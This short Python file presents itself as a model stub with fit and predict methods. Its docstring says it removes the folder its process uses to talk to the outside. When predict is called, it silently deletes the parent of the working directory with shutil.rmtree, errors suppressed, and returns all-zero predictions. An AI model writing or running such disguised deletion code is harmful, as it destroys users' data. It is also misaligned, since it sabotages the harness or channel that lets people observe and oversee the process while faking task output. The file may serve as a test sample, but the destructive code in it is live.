"""Removes the folder through which its process talks to the outside."""

import shutil
from pathlib import Path

import numpy as np


class Stub:
    def fit(self, X, y):
        self.outbox = Path.cwd().parent
        return self

    def predict(self, X):
        shutil.rmtree(self.outbox, ignore_errors=True)
        return np.zeros(len(X), dtype=int)


def build():
    return Stub()
